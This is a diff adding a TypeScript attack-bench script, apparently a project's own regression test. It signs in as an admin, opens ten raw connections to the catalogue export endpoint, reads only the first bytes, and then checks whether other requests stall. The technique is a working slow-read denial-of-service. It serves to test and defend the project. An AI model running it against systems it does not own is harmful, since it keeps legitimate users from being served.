@@ -1,0 +1,50 @@
+import { connect, type Socket } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+import { call, signIn, targetFrom } from './target.ts';
+
+// An admin (or who has taken an admin's session) asks for ten exports of the catalogue and reads none of them.
+//   node bench/attacks/unread-exports.ts http://127.0.0.1:3000 --email=… --password=…
+// It shows anything in a shop only whose export is larger than what lies in buffers on its way: some 20,000 products.
+
+const target = targetFrom(process.argv);
+const token = await signIn(target, process.argv);
+const exports = 10;
+const mostMilliseconds = 1000;
+
+const statuses: string[] = [];
+const sockets: Socket[] = [];
+let open = 0;
+
+async function askOthers(): Promise<{ milliseconds: number; statuses: number[] }> {
+  const begun = performance.now();
+  const asked = await Promise.all([
+    call(target, 'GET', '/auth/me', { token }),
+    call(target, 'GET', '/orders', { token }),
+  ]);
+  return { milliseconds: Math.round(performance.now() - begun), statuses: asked.map(({ status }) => status) };
+}
+
+console.log('before:', await askOthers());
+for (let n = 0; n < exports; n++) {
+  const socket = connect(Number(target.port), target.hostname.replace(/[[\]]/g, ''));
+  sockets.push(socket);
+  open += 1;
+  socket.on('error', () => undefined);
+  socket.on('close', () => {
+    open -= 1;
+  });
+  // the first bytes, and then nothing more
+  socket.once('data', (part) => {
+    statuses.push(/^HTTP\/1\.1 (\d+)/.exec(part.toString('latin1'))?.[1] ?? '?');
+    socket.pause();
+  });
+  socket.write(`GET /api/v1/admin/export HTTP/1.1\r\nHost: haat\r\nAuthorization: Bearer ${token}\r\n\r\n`);
+}
+await pause(3000);
+const during = await askOthers();
+console.log(`${exports} exports asked for and not read:`, statuses.toSorted().join(' '));
+console.log('while they are unread:', during);
+for (const socket of sockets) socket.destroy();
+const works = during.milliseconds > mostMilliseconds || during.statuses.some((status) => status !== 200);
+console.log(`${open} connections were open. ${works ? 'Unread exports keep others waiting.' : 'Nobody else waits.'}`);
+process.exitCode = works ? 1 : 0;
